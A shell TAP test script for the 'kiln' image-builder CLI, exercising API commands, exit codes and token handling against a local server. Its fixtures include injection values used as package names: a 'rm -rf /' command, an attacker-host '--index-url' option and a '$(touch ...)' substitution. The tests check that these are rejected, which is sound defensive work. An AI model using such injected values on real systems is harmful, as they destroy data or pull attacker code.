#!/bin/sh
# TAP test of the CLI as an API client (kiln apply|get|describe|logs|cancel|
# rebuild|delete) against a real `kiln serve` (real HTTP server, real SQLite
# store in a temporary data dir).
#
# Part 1: no registry configured, so no build runs (fast): apply in both spec
# shapes and formats, unchanged/configured, local and server-side field
# errors, injection attempts, get (table/json/yaml), describe, delete, the
# exit codes of API errors, tokens, a stopped server, kiln worker refusing to
# start without a registry.
# Part 2 (when docker-registry is installed): a loopback registry configured
# but no base image in it, so each build fails at the pull within seconds:
# jobs, logs, logs -f, rebuild, cancel of a final job.
#
# usage: test-cli-client.sh KILN_BINARY [SOURCE_DIR]
set -u
KILN=$1
HERE=$(cd "${2:-$(dirname "$0")}" && pwd)
# shellcheck source=lib/registry.sh
. "$HERE/lib/registry.sh"

for tool in jq curl; do
    if ! command -v "$tool" >/dev/null 2>&1; then
        echo "1..0 # SKIP missing: $tool"
        exit 0
    fi
done

T=$(mktemp -d "${TMPDIR:-/tmp}/kiln-test-cli-client.XXXXXX") || exit 1
SERVE_PID=
stop_serve() {
    if [ -n "$SERVE_PID" ]; then
        kill "$SERVE_PID" 2>/dev/null
        i=0
        while kill -0 "$SERVE_PID" 2>/dev/null && [ $i -lt 100 ]; do sleep 0.1; i=$((i + 1)); done
        kill -9 "$SERVE_PID" 2>/dev/null
        wait "$SERVE_PID" 2>/dev/null
        SERVE_PID=
    fi
}
cleanup() {
    stop_serve
    registry_cleanup
    if [ -n "${KILN_TEST_KEEP:-}" ]; then echo "# kept $T"; else rm -rf "$T"; fi
}
trap cleanup EXIT
trap 'cleanup; exit 130' INT TERM HUP

n=0
fails=0
ok() { # ok STATUS DESCRIPTION
    n=$((n + 1))
    if [ "$1" -eq 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; fails=$((fails + 1)); fi
}
is() { # is GOT WANT DESCRIPTION
    [ "$1" = "$2" ]
    r=$?
    ok $r "$3"
    [ $r -eq 0 ] || { echo "#   got:  '$1'"; echo "#   want: '$2'"; }
}
# k EXPECTED_EXIT DESCRIPTION ARGS...: run kiln, keep stdout/stderr in $T/out, $T/err
k() {
    want=$1; desc=$2; shift 2
    "$KILN" "$@" >"$T/out" 2>"$T/err" </dev/null
    got=$?
    [ "$got" -eq "$want" ]
    r=$?
    ok $r "$desc (exit $got)"
    if [ $r -ne 0 ]; then
        echo "#   want exit $want"
        sed 's/^/#   out: /' "$T/out" | head -n 20
        sed 's/^/#   err: /' "$T/err" | head -n 20
    fi
}
has() { # has FILE TEXT DESCRIPTION
    grep -qF -- "$2" "$1"
    r=$?
    ok $r "$3"
    [ $r -eq 0 ] || { echo "#   want: $2"; sed 's/^/#   got:  /' "$1" | head -n 20; }
}
hasnt() { # hasnt FILE TEXT DESCRIPTION
    ! grep -qF -- "$2" "$1"
    r=$?
    ok $r "$3"
    [ $r -eq 0 ] || { echo "#   unwanted: $2"; sed 's/^/#   got:  /' "$1" | head -n 20; }
}

# start_serve [ENV=VALUE...]: start kiln serve on a free port, set URL.
start_serve() {
    : >"$T/serve.err"
    env -u KILN_REGISTRY_ENDPOINT -u PRIMEHUB_CUSTOM_IMAGE_REGISTRY_ENDPOINT \
        -u KILN_REPO_PREFIX -u PRIMEHUB_CUSTOM_IMAGE_REPO_PREFIX -u KILN_PUSH_REPOSITORY \
        -u PRIMEHUB_CUSTOM_IMAGE_REGISTRY_USERNAME -u PRIMEHUB_CUSTOM_IMAGE_REGISTRY_PASSWORD \
        KILN_ADMIN_TOKEN="$TOKEN" "$@" \
        "$KILN" serve --data-dir "$T/data" --listen 127.0.0.1:0 </dev/null >"$T/serve.out" 2>>"$T/serve.err" &
    SERVE_PID=$!
    i=0
    URL=
    while [ $i -lt 200 ]; do
        URL=$(sed -n 's/^kiln serve: listening on \(http:[^ ]*\).*$/\1/p' "$T/serve.err" | head -n 1)
        [ -n "$URL" ] && return 0
        kill -0 "$SERVE_PID" 2>/dev/null || break
        sleep 0.1
        i=$((i + 1))
    done
    sed 's/^/#   serve: /' "$T/serve.err"
    return 1
}

TOKEN=kiln-test-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
mkdir -p "$T/data"
if ! start_serve; then
    echo "1..0 # SKIP kiln serve did not start"
    exit 0
fi
export KILN_URL="$URL" KILN_TOKEN="$TOKEN"
unset KILN_REGISTRY_ENDPOINT KILN_REPO_PREFIX
echo "# kiln serve at $URL"

# ---- help ---------------------------------------------------------------------
for c in apply get describe logs cancel rebuild delete; do
    k 0 "$c --help" "$c" --help
    has "$T/out" "usage: kiln $c" "$c --help prints its usage"
done
has "$T/out" "KILN_URL" "help names KILN_URL"

# ---- fixtures -----------------------------------------------------------------
BASE=127.0.0.1:5999/kiln/base:bookworm
cat >"$T/demo.yaml" <<EOF
name: demo
description: team image
baseImage: $BASE
packages:
  apt: [curl]
  pip: ["requests>=2"]
EOF
cat >"$T/demo2.yaml" <<EOF
name: demo
description: team image
baseImage: $BASE
packages:
  apt: [curl]
  pip: ["requests>=2", "numpy>=1.17,<2"]
EOF
cat >"$T/crd.yaml" <<EOF
apiVersion: primehub.io/v1alpha1
kind: ImageSpec
metadata:
  name: crd-demo
  annotations:
    description: from primehub
spec:
  baseImage: $BASE
  packages:
    apt: []
    conda: ["conda-forge::numpy==1.17*"]
    pip: |
      pandas[all]
      # a comment
      scipy
  updateTime: "2026-01-01T00:00:00Z"
EOF
cat >"$T/json.json" <<EOF
{"name": "json-demo", "baseImage": "$BASE", "packages": {"apt": ["jq"], "conda": [], "pip": []}}
EOF
cat >"$T/bad.yaml" <<EOF
name: Bad_Name
baseImage: $BASE
packages:
  apt: [curl]
  pip: |
    requests
    curl; rm -rf /
    --index-url=http://evil.example/simple
EOF
cat >"$T/inject.yaml" <<EOF
name: inject
baseImage: $BASE
packages:
  apt: ["curl", "vim\$(touch /tmp/kiln-pwned)"]
  pip: |
    requests
    curl; rm -rf /
    --index-url=http://evil.example/simple
EOF

# ---- apply --------------------------------------------------------------------
k 0 "apply a short-form YAML spec" apply -f "$T/demo.yaml"
has "$T/out" "spec/demo created" "apply says created"
has "$T/out" "image registry not found" "apply shows the server's message (no registry: nothing queued)"
k 0 "apply the same spec again" apply -f "$T/demo.yaml"
is "$(head -n 1 "$T/out")" "spec/demo unchanged" "apply says unchanged"
k 0 "apply a changed spec" apply -f "$T/demo2.yaml"
is "$(head -n 1 "$T/out")" "spec/demo configured" "apply says configured"
"$KILN" apply -f - <"$T/crd.yaml" >"$T/out" 2>"$T/err"
is "$?" 0 "apply -f - reads the ImageSpec from standard input"
has "$T/out" "spec/crd-demo created" "the ImageSpec is created under its metadata.name"
k 0 "apply a JSON spec" apply -f "$T/json.json"
has "$T/out" "spec/json-demo created" "the JSON spec is created"

k 1 "apply an invalid spec fails with exit 1" apply -f "$T/bad.yaml"
has "$T/err" "kiln: spec '$T/bad.yaml' is invalid" "the local check names the file"
has "$T/err" "  name: " "the bad name is a field error"
has "$T/err" "  packages.pip[1] (line 2): " "the shell injection is a field error with its line"
has "$T/err" "  packages.pip[2] (line 3): " "the option injection is a field error with its line"

# The same injection sent without the local check: the server's 422 field errors.
k 1 "the server rejects an injection attempt (--no-validate)" apply --no-validate -f "$T/inject.yaml"
has "$T/err" "kiln: " "the server's message is shown"
has "$T/err" "  packages.apt[1]: " "the server's field error for apt (a list)"
has "$T/err" "  packages.pip[1] (line 2): " "the server's field error for pip line 2"
has "$T/err" "  packages.pip[2] (line 3): " "the server's field error for pip line 3"
k 3 "nothing was saved by the rejected apply" get spec inject
ok "$([ ! -e /tmp/kiln-pwned ]; echo $?)" "no command ran from a package name"

printf 'name: [unclosed\n' >"$T/syntax.yaml"
k 1 "a YAML syntax error is invalid input" apply -f "$T/syntax.yaml"
k 3 "a missing file is not found" apply -f "$T/nosuch.yaml"
k 2 "apply without -f is a usage error" apply

# ---- get ----------------------------------------------------------------------
k 0 "get specs" get specs
is "$(head -n 1 "$T/out" | tr -s ' ')" "NAME STATUS IMAGE UPDATED" "the table header"
is "$(sed 1d "$T/out" | awk '{print $1}' | tr '\n' ' ')" "crd-demo demo json-demo " "the rows, by name"
is "$(awk '$1 == "demo" {print $2, $3}' "$T/out")" "- -" "no status and no image without a build"
has "$T/out" "s ago" "the updated column is an age"

k 0 "get specs -o json" get specs -o json
is "$(jq -r '.items | map(.name) | join(",")' "$T/out")" "crd-demo,demo,json-demo" "json lists the specs"
is "$(jq -r '.total' "$T/out")" "3" "json has the total"
k 0 "get spec demo -o json" get spec demo -o json
is "$(jq -r '.packages.pip | join(" ")' "$T/out")" "requests>=2 numpy>=1.17,<2" "json has the packages"
is "$(jq -r '.revision' "$T/out")" "$("$KILN" spec hash "$T/demo2.yaml")" "json revision = kiln spec hash"
is "$(jq -r '.status' "$T/out")" "null" "no status without a job"

k 0 "get spec crd-demo -o yaml" get spec crd-demo -o yaml
cp "$T/out" "$T/crd-out.yaml"
has "$T/out" "apiVersion: primehub.io/v1alpha1" "yaml is a PrimeHub resource"
has "$T/out" "kind: ImageSpec" "of kind ImageSpec"
has "$T/out" "  name: crd-demo" "with metadata.name"
has "$T/out" "description: from primehub" "with the description annotation"
has "$T/out" "conda-forge::numpy==1.17*" "with the packages"
has "$T/out" 'updateTime: "2026-01-01T00:00:00Z"' "with the updateTime given"
"$KILN" spec validate "$T/crd-out.yaml" >/dev/null 2>"$T/err"
ok $? "kiln spec validate reads the yaml back"
is "$("$KILN" spec hash "$T/crd-out.yaml")" "$("$KILN" get spec crd-demo -o json | jq -r .revision)" \
    "the yaml round-trips to the server's revision"
k 0 "get specs -o yaml" get specs -o yaml
has "$T/out" "kind: List" "a list in yaml is a List"
is "$(grep -c 'kind: ImageSpec' "$T/out")" "3" "holding the three ImageSpecs"

k 0 "get jobs with none" get jobs
has "$T/err" "no jobs" "get jobs says there are none"
k 0 "get jobs --spec demo -o json" get jobs --spec demo -o json
is "$(jq -r '.total' "$T/out")" "0" "no jobs for demo"

# ---- describe -----------------------------------------------------------------
k 0 "describe spec demo" describe spec demo
has "$T/out" "Name:         demo" "describe shows the name"
has "$T/out" "Description:  team image" "describe shows the description"
has "$T/out" "Base image:   $BASE" "describe shows the base image"
has "$T/out" "numpy>=1.17,<2" "describe shows every package"
has "$T/out" "Revision:     $("$KILN" spec hash "$T/demo2.yaml")" "describe shows the revision"
has "$T/out" "Jobs:         none" "describe says there are no jobs"

# ---- errors and exit codes -------------------------------------------------------
k 3 "get spec nosuch: not found is exit 3" get spec nosuch
has "$T/err" "kiln: " "the API's message is shown"
k 3 "describe spec nosuch" describe spec nosuch
k 3 "get job 424242" get jobs 424242
k 3 "logs of job 424242" logs 424242
k 3 "cancel job 424242" cancel 424242
k 5 "rebuild with no registry configured is a conflict (exit 5)" rebuild demo
has "$T/err" "registry" "the conflict says the registry is missing"
k 2 "get an unknown kind is a usage error" get pods
k 2 "logs of a non-number is a usage error" logs abc
k 1 "an invalid spec name is invalid input" get spec 'Bad/../x'

# kiln worker without a registry refuses to start before it touches anything
env -u KILN_REGISTRY_ENDPOINT -u PRIMEHUB_CUSTOM_IMAGE_REGISTRY_ENDPOINT -u KILN_REPO_PREFIX \
    -u PRIMEHUB_CUSTOM_IMAGE_REPO_PREFIX -u KILN_PUSH_REPOSITORY \
    "$KILN" worker --data-dir "$T/noreg/data" --store "sqlite:$T/noreg.db" </dev/null >"$T/out" 2>"$T/err"
is "$?" 2 "kiln worker with no registry configured is a usage error"
has "$T/err" "no image registry configured" "kiln worker says the registry is missing"
[ ! -e "$T/noreg" ] && [ ! -e "$T/noreg.db" ]
ok $? "kiln worker with no registry makes neither its data directory nor the store"

# ---- tokens --------------------------------------------------------------------
BAD=wrong-token-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')
KILN_TOKEN=$BAD k 9 "a wrong token is exit 9" get specs
has "$T/err" "--token or KILN_TOKEN" "the auth error says how to give the token"
cat "$T/out" "$T/err" >"$T/all"
hasnt "$T/all" "$BAD" "the wrong token is not printed"
env -u KILN_TOKEN "$KILN" get specs >"$T/out" 2>"$T/err"
is "$?" 9 "no token is exit 9"
has "$T/err" "give the admin token" "the error says a token is needed"
env -u KILN_TOKEN "$KILN" get specs --token "$TOKEN" >"$T/out" 2>"$T/err"
is "$?" 0 "--token works"
KILN_URL=http://127.0.0.1:1 "$KILN" get specs --url "$URL" >"$T/out" 2>"$T/err"
is "$?" 0 "--url wins over KILN_URL"
k 0 "describe with the right token" describe spec crd-demo
cat "$T/out" "$T/err" "$T/serve.err" >"$T/all"
hasnt "$T/all" "$TOKEN" "the token is never printed (client output, server log)"

# ---- delete --------------------------------------------------------------------
k 0 "delete spec demo" delete spec demo
is "$(cat "$T/out")" "spec/demo deleted" "delete says deleted"
k 3 "get spec demo after delete" get spec demo
k 3 "delete spec demo again" delete spec demo
k 0 "delete two specs" delete spec crd-demo json-demo
k 0 "get specs when empty" get specs
has "$T/err" "no specs" "get specs says there are none"

# ---- part 2: jobs, with a registry that lacks the base image -------------------------
if registry_available && [ "$(id -u)" -eq 0 ]; then
    stop_serve
    registry_start noauth >/dev/null 2>&1
    start_serve KILN_REGISTRY_ENDPOINT="$REGISTRY" KILN_REPO_PREFIX="$REGISTRY/kiln" \
        KILN_INSECURE_REGISTRIES="$REGISTRY"
    export KILN_URL="$URL"
    cat >"$T/job.yaml" <<EOF
name: jobdemo
baseImage: $REGISTRY/kiln/nosuch-base:bookworm
packages:
  apt: [curl]
EOF
    k 0 "apply with a registry queues a build" apply -f "$T/job.yaml"
    has "$T/out" "spec/jobdemo created" "created"
    JOB=$(sed -n 's/^build queued: job \([0-9]*\)$/\1/p' "$T/out")
    ok "$([ -n "$JOB" ]; echo $?)" "apply prints 'build queued: job N'"
    k 1 "logs -f follows the build and exits 1 when it failed" logs -f "${JOB:-0}"
    has "$T/out" "nosuch-base" "the followed log shows the build's lines"
    k 0 "get jobs" get jobs
    is "$(head -n 1 "$T/out" | tr -s ' ')" "ID SPEC REVISION PHASE IMAGE DURATION" "the jobs table header"
    is "$(awk -v j="${JOB:-0}" '$1 == j {print $2, $3, $4, $5}' "$T/out")" \
        "jobdemo $("$KILN" spec hash "$T/job.yaml") Failed -" "the job's row"
    k 0 "get jobs ID -o yaml" get jobs "${JOB:-0}" -o yaml
    has "$T/out" "kind: ImageSpecJob" "a job in yaml is an ImageSpecJob"
    has "$T/out" "phase: Failed" "with its phase"
    k 0 "get spec -o yaml after a build" get spec jobdemo -o yaml
    has "$T/out" "phase: Failed" "the ImageSpec status has the phase"
    has "$T/out" "jobName: jobdemo-$("$KILN" spec hash "$T/job.yaml")" "and the job name"
    k 0 "logs --tail 1" logs "${JOB:-0}" --tail 1
    is "$(wc -l <"$T/out" | tr -d ' ')" "1" "--tail 1 prints one line"
    k 0 "rebuild queues another build" rebuild jobdemo
    JOB2=$(sed -n 's/^build queued: job \([0-9]*\)$/\1/p' "$T/out")
    ok "$([ -n "$JOB2" ] && [ "$JOB2" -gt "${JOB:-0}" ]; echo $?)" "rebuild prints the new job"
    "$KILN" logs -f "${JOB2:-0}" >/dev/null 2>&1
    k 0 "get jobs --spec jobdemo" get jobs --spec jobdemo -o json
    is "$(jq -r '[.items[].id] | map(tostring) | join(",")' "$T/out")" "${JOB2:-x},${JOB:-x}" \
        "the revision history, newest first"
    k 5 "cancel of a final job is a conflict (exit 5)" cancel "${JOB:-0}"
    k 0 "describe spec jobdemo" describe spec jobdemo
    has "$T/out" "Status:       Failed" "describe shows the status"
    has "$T/out" "job ${JOB:-0} failed: " "describe shows why the job failed"
    k 0 "describe job" describe job "${JOB:-0}"
    has "$T/out" "Dockerfile:" "describe job shows the Dockerfile"
    has "$T/out" "FROM $REGISTRY/kiln/nosuch-base:bookworm" "of the job's revision"
    k 0 "delete a spec with jobs" delete spec jobdemo
    k 3 "its jobs are gone" get jobs "${JOB:-0}"
else
    echo "# part 2 skipped: no docker-registry or not root"
fi

# ---- server down -----------------------------------------------------------------
stop_serve
k 8 "server down: exit 8" get specs
has "$T/err" "cannot connect to kiln serve at '$URL'" "the error names the URL"
k 8 "server down: apply" apply -f "$T/demo.yaml"

echo "1..$n"
[ "$fails" -eq 0 ]
